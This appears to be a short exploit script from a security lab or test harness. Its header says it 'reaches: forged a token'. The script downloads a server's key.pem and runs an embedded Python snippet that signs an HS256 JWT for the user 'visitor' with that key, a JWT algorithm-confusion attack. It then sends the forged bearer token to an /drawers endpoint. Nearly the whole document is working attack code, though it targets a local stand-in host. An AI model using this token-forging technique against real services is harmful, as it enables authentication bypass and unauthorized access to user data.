# reaches: forged a token
#-- a forged token of the visitor is taken, and no more is done with it
curl -s http://app:8080/key.pem > /tmp/key.pem
cat > /tmp/forge.py <<'PY'
import base64, hmac, json, time
def encode(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
parts = {"alg": "HS256"}, {"sub": "visitor", "exp": int(time.time()) + 600}
message = ".".join(encode(json.dumps(part).encode()) for part in parts)
print(message + "." + encode(hmac.digest(open("/tmp/key.pem", "rb").read(), message.encode(), "sha256")))
PY
curl -s -H "Authorization: Bearer $(python3 /tmp/forge.py)" http://app:8080/drawers
echo none
